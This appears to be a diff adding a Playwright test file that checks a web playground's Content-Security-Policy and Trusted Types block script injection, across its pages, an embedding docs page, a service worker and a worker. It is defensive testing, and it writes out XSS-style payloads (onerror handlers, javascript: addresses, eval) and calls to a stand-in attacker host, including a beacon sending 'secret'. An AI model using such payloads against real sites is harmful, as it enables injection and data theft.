@@ -1,0 +1,325 @@
+// The Content-Security-Policy with Trusted Types is really in force: in each page that is served, by what the page itself names and by what a host
+// sends, in the worker, in a frame on a docs page, and in what the service worker brings. And the watch of all browser tests sees a violation.
+import { readdirSync, readFileSync } from "node:fs";
+import { type Frame, type Page, expect as plainExpect, test as plainTest } from "@playwright/test";
+import { GUIDE, serveDocs } from "./docs-page";
+import { expect, Playground, test, watch } from "./playground";
+import { DIST, serve } from "./static-server";
+
+/** Ways to run or fetch something that a page might be tricked into. Each is tried outside of the test's own evaluation, to which no policy applies. */
+const ATTEMPTS = [
+  "inline script",
+  "eval",
+  "Function",
+  "timer with a text",
+  "innerHTML",
+  "outerHTML in a shadow root",
+  "insertAdjacentHTML",
+  "document.write",
+  "srcdoc",
+  "inline handler",
+  "javascript: address",
+  "script of another origin",
+  "script of a data: address",
+  "import of a data: address",
+  "worker of a blob",
+  "inline style element",
+  "style attribute",
+  "image of another origin",
+  "frame of another origin",
+  "fetch of another origin",
+  "beacon",
+  "form",
+  "base",
+  "object",
+] as const;
+
+/** Tries all of them, and gives those after which something had run, or that no violation was reported of and no error thrown. */
+async function notBlocked(frame: Page | Frame): Promise<string[]> {
+  return frame.evaluate(async (attempts) => {
+    const elsewhere = "https://evil.test/x";
+    const ways: Record<string, () => unknown> = {
+      "inline script": () => {
+        const script = document.createElement("script");
+        script.append("globalThis.hacked = 1");
+        document.body.append(script);
+      },
+      // biome-ignore lint/security/noGlobalEval: this is what must not work.
+      eval: () => globalThis.eval("globalThis.hacked = 1"),
+      Function: () => new Function("globalThis.hacked = 1")(),
+      "timer with a text": () => setTimeout("globalThis.hacked = 1" as never),
+      innerHTML: () => {
+        document.createElement("div").innerHTML = "<img src=x onerror='globalThis.hacked = 1'>";
+      },
+      "outerHTML in a shadow root": () => {
+        const root = document.createElement("div").attachShadow({ mode: "open" });
+        root.innerHTML = "<b>bold</b>";
+      },
+      insertAdjacentHTML: () => document.body.insertAdjacentHTML("beforeend", "<b>bold</b>"),
+      "document.write": () => document.write("<script>globalThis.hacked = 1</script>"),
+      srcdoc: () => {
+        document.createElement("iframe").srcdoc = "<script>parent.hacked = 1</script>";
+      },
+      "inline handler": () => {
+        const button = document.createElement("button");
+        button.setAttribute("onclick", "globalThis.hacked = 1");
+        document.body.append(button);
+        button.click();
+        button.remove();
+      },
+      "javascript: address": () => {
+        const link = Object.assign(document.createElement("a"), { href: "javascript:globalThis.hacked = 1" });
+        document.body.append(link);
+        link.click();
+        link.remove();
+      },
+      "script of another origin": () => {
+        const script = document.createElement("script");
+        script.setAttribute("src", elsewhere);
+        document.head.append(script);
+      },
+      "script of a data: address": () => {
+        const script = document.createElement("script");
+        script.setAttribute("src", "data:text/javascript,globalThis.hacked=1");
+        document.head.append(script);
+      },
+      "import of a data: address": () => import("data:text/javascript,globalThis.hacked=1" as string),
+      "worker of a blob": () => new Worker(URL.createObjectURL(new Blob(["1"]))),
+      "inline style element": () => {
+        const style = document.createElement("style");
+        style.textContent = "html { --hacked: 1 }";
+        document.head.append(style);
+        if (getComputedStyle(document.documentElement).getPropertyValue("--hacked"))
+          Object.assign(globalThis, { hacked: 1 });
+        style.remove();
+      },
+      "style attribute": () => document.createElement("p").setAttribute("style", "color: red"),
+      "image of another origin": () => {
+        new Image().src = elsewhere;
+      },
+      "frame of another origin": () => {
+        const inner = Object.assign(document.createElement("iframe"), { src: elsewhere });
+        document.body.append(inner);
+        setTimeout(() => inner.remove(), 150);
+      },
+      "fetch of another origin": () => fetch(elsewhere),
+      beacon: () => navigator.sendBeacon(elsewhere, "secret"),
+      form: () => {
+        const form = Object.assign(document.createElement("form"), { action: elsewhere, target: "_blank" });
+        document.body.append(form);
+        form.submit();
+        form.remove();
+      },
+      base: () => {
+        const base = Object.assign(document.createElement("base"), { href: "https://evil.test/" });
+        document.head.append(base);
+        if (document.baseURI.includes("evil.test")) Object.assign(globalThis, { hacked: 1 });
+        base.remove();
+      },
+      object: () => {
+        const object = Object.assign(document.createElement("object"), { data: elsewhere });
+        document.body.append(object);
+        setTimeout(() => object.remove(), 150);
+      },
+    };
+    const open: string[] = [];
+    for (const name of attempts) {
+      let refused = false;
+      const seen = () => {
+        refused = true;
+      };
+      document.addEventListener("securitypolicyviolation", seen);
+      addEventListener("securitypolicyviolation", seen);
+      await new Promise<void>((done) => {
+        setTimeout(async () => {
+          try {
+            await ways[name]?.();
+          } catch {
+            // A refusal that throws is reported as well; what only throws has not run either.
+          }
+          setTimeout(done, 120);
+        });
+      });
+      document.removeEventListener("securitypolicyviolation", seen);
+      removeEventListener("securitypolicyviolation", seen);
+      if (!refused || "hacked" in globalThis) open.push(name);
+      Reflect.deleteProperty(globalThis, "hacked");
+    }
+    return open;
+  }, ATTEMPTS);
+}
+
+const PAGES = [
+  ["the page", "", "ytterby-page"],
+  ["the page for frames", "embed/", "#embed"],
+] as const;
+
+for (const [name, path, element] of PAGES) {
+  plainTest(`${name} is guarded by both: what it names itself, and what a host sends`, async ({ page, baseURL }) => {
+    const response = await page.goto(`${baseURL}${path}`);
+    plainExpect(response?.headers()["content-security-policy"]).toContain("require-trusted-types-for 'script'");
+    plainExpect(await page.locator(element).count()).toBe(1);
+    plainExpect(await notBlocked(page)).toEqual([]);
+  });
+
+  plainTest(`${name} is guarded by itself alone, on a host that sends nothing`, async ({ page }) => {
+    const server = await serve({ folders: { "/": DIST } });
+    const response = await page.goto(`${server.origin}/${path}`);
+    plainExpect(response?.headers()["content-security-policy"]).toBeUndefined();
+    plainExpect(await notBlocked(page)).toEqual([]);
+    await server.close();
+  });
+
+  plainTest(`${name} is guarded by a host's header alone`, async ({ page }) => {
+    const html = readFileSync(`${DIST}${path}index.html`, "utf8");
+    const bare = html.replace(/<meta\s+http-equiv="Content-Security-Policy"[^>]*>/, "");
+    plainExpect(bare.length).toBeLessThan(html.length - 300);
+    const rule = path === "" ? "/" : "/embed/*";
+    const lines = readFileSync(`${DIST}_headers`, "utf8").split("\n");
+    const policy = lines[lines.indexOf(rule) + 1]?.replace(/^ *Content-Security-Policy: /, "") ?? "";
+    const server = await serve({
+      folders: { "/": DIST },
+      texts: { [`/${path}`]: bare },
+      headers: (asked): Record<string, string> => (asked === `/${path}` ? { "content-security-policy": policy } : {}),
+    });
+    await page.goto(`${server.origin}/${path}`);
+    plainExpect(await notBlocked(page)).toEqual([]);
+    await server.close();
+  });
+
+  plainTest(`a script or a handler that somebody smuggles into ${name} does not run`, async ({ page, baseURL }) => {
+    await page.route(`${baseURL}${path}`, async (route) => {
+      const response = await route.fetch();
+      const smuggled = "<script>hacked = 1</script><img src=x onerror='hacked = 1'><p style='color: red'>";
+      await route.fulfill({ response, body: (await response.text()).replace("<body>", `<body>${smuggled}`) });
+    });
+    const refused: string[] = [];
+    await page.exposeFunction("refused", (what: string) => refused.push(what));
+    await page.addInitScript(() => {
+      addEventListener("securitypolicyviolation", ({ violatedDirective }) => {
+        (globalThis as unknown as { refused(what: string): void }).refused(violatedDirective);
+      });
+    });
+    await page.goto(`${baseURL}${path}`);
+    await plainExpect
+      .poll(() => [...new Set(refused)].sort())
+      .toEqual(expect.arrayContaining(["script-src-attr", "script-src-elem", "style-src-attr"]));
+    plainExpect(await page.evaluate(() => "hacked" in globalThis)).toBe(false);
+  });
+}
+
+plainTest("without a policy all of these get through", async ({ page }) => {
+  // Else the tests above would say nothing.
+  const server = await serve({ texts: { "/": "<!doctype html><title>Bare</title><p>Bare" } });
+  await page.route("https://evil.test/**", (route) => route.fulfill({ body: "" }));
+  await page.goto(server.origin);
+  plainExpect(await notBlocked(page)).toEqual([...ATTEMPTS]);
+  await server.close();
+});
+
+plainTest("no other HTML is built than these two", () => {
+  const pages = readdirSync(DIST, { recursive: true })
+    .map(String)
+    .filter((name) => name.endsWith(".html"));
+  plainExpect(pages.sort()).toEqual(["embed/index.html", "index.html"]);
+});
+
+plainTest(
+  "a frame on a docs page is guarded, and so is the docs page under the policy that is recommended",
+  async ({ page }) => {
+    const server = await serveDocs(`<iframe title="frame" src="/docs/v2/playground/embed/#example:kiln"></iframe>`);
+    await page.goto(server.origin + GUIDE);
+    await plainExpect(page.frameLocator("iframe").locator(".output .cm-content")).toContainText("kiln: HESTIA");
+    const frame = page.frames().find((one) => one.url().includes("/embed/"));
+    plainExpect(frame && (await notBlocked(frame))).toEqual([]);
+    plainExpect(await notBlocked(page)).toEqual([]);
+    await server.close();
+  },
+);
+
+plainTest("what the service worker brings is guarded as what the server sends", async ({ browser, baseURL }) => {
+  const context = await browser.newContext({ serviceWorkers: "allow" });
+  const page = await context.newPage();
+  await page.goto(`${baseURL}`);
+  await page.evaluate(() => navigator.serviceWorker.ready);
+  await plainExpect.poll(() => page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);
+  for (const [, path, element] of PAGES) {
+    const response = await page.goto(`${baseURL}${path}`);
+    plainExpect(response?.fromServiceWorker()).toBe(true);
+    plainExpect(await page.locator(element).count()).toBe(1);
+    plainExpect(await notBlocked(page)).toEqual([]);
+  }
+  await context.close();
+});
+
+plainTest("the engine's worker evaluates no text and asks no other origin", async ({ page, baseURL }) => {
+  await page.goto(`${baseURL}`);
+  await plainExpect(new Playground(page).status).toContainText("Rendered in");
+  const [worker] = page.workers();
+  const outcome = await worker?.evaluate(
+    () =>
+      new Promise<string[]>((done) => {
+        setTimeout(async () => {
+          const outcomes: string[] = [];
+          try {
+            // biome-ignore lint/security/noGlobalEval: this is what must not work.
+            outcomes.push(String(globalThis.eval("'ran'")));
+          } catch (error) {
+            outcomes.push((error as Error).name);
+          }
+          await fetch("https://evil.test/").then(
+            () => outcomes.push("fetched"),
+            (error) => outcomes.push(error.name),
+          );
+          done(outcomes);
+        });
+      }),
+  );
+  plainExpect(outcome).toEqual(["EvalError", "TypeError"]);
+});
+
+// The watch itself: a test in which one of these happens must fail. `test.fail` turns that around.
+
+/** What is done by a page's own code, a moment later. */
+const MISDEEDS: Record<string, (page: Page) => Promise<void>> = {
+  // biome-ignore lint/security/noGlobalEval: this is what must not work.
+  "evaluates a text": (page) => page.evaluate(() => void setTimeout(() => globalThis.eval("1"))),
+  "makes markup of a text": (page) =>
+    page.evaluate(
+      () =>
+        void setTimeout(() => {
+          document.createElement("p").innerHTML = "<b>";
+        }),
+    ),
+  "adds an inline style": (page) => page.evaluate(() => document.body.setAttribute("style", "color: red")),
+  "asks another origin": (page) => page.evaluate(() => void fetch("https://evil.test/").catch(() => {})),
+  throws: (page) => page.evaluate(() => void setTimeout(() => Promise.reject(new Error("thrown")))),
+  "writes to the console": (page) => page.evaluate(() => console.error("written")),
+};
+
+for (const [name, misdeed] of Object.entries(MISDEEDS)) {
+  test.fail(`a test fails in which the page ${name}`, async ({ playground, page }) => {
+    await playground.open();
+    await misdeed(page);
+    await page.waitForTimeout(300);
+  });
+}
+
+plainTest("the watch tells what was violated, in the page and in a frame of it", async ({ page }) => {
+  const server = await serveDocs(`<iframe title="frame" src="/docs/v2/playground/embed/#example:kiln"></iframe>`);
+  const wrong = await watch(page, server.origin);
+  await page.goto(server.origin + GUIDE);
+  await plainExpect(page.frameLocator("iframe").locator(".output .cm-content")).toContainText("kiln: HESTIA");
+  plainExpect(wrong).toEqual([]);
+  for (const frame of page.frames()) {
+    wrong.length = 0;
+    await frame.evaluate(
+      () =>
+        void setTimeout(() => {
+          document.createElement("p").innerHTML = "<b>";
+        }),
+    );
+    await plainExpect.poll(() => wrong.join("\n")).toContain("policy: require-trusted-types-for");
+  }
+  await server.close();
+});
